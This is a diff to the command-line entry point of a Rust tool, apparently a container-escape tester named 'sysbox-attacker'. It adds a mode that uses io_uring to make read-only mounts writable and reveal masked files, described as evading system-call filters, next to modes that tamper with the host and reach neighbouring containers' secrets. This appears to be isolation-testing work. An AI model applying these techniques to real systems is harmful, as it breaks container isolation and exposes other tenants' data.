@@ -3,6 +3,7 @@
 //! ```text
 //! sysbox-attacker locked GOAL...          make read-only mounts writable, see hidden files:
 //!                                         ro:DIRECTORY or mask:FILE:HIDDEN TEXT
+//! sysbox-attacker uring GOAL...           the same by io_uring, which no filter of system calls sees
 //! sysbox-attacker host                    change the host: calls, settings, devices, cgroups
 //! sysbox-attacker victim SECRET           be the neighbour of the next one
 //! sysbox-attacker neighbours SECRET KEY PID
@@ -26,6 +27,7 @@ mod neighbours;
 mod places;
 mod report;
 mod sys;
+mod uring;
 
 use std::time::Duration;
 
@@ -34,10 +36,11 @@ fn main() {
     let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
     let seconds = |text: &str| Duration::from_secs(text.parse().unwrap_or(1));
     match words.as_slice() {
-        ["locked", goals @ ..] => {
+        [way @ ("locked" | "uring"), goals @ ..] => {
             let goals: Option<Vec<_>> =
                 goals.iter().map(|goal| locked::Goal::parse(goal)).collect();
-            places::attack(&goals.expect("goals like ro:/path or mask:/path:text"));
+            let goals = goals.expect("goals like ro:/path or mask:/path:text");
+            if *way == "uring" { uring::attack(&goals) } else { places::attack(&goals) }
         }
         ["host"] => {
             report::in_child("system calls", host::calls);
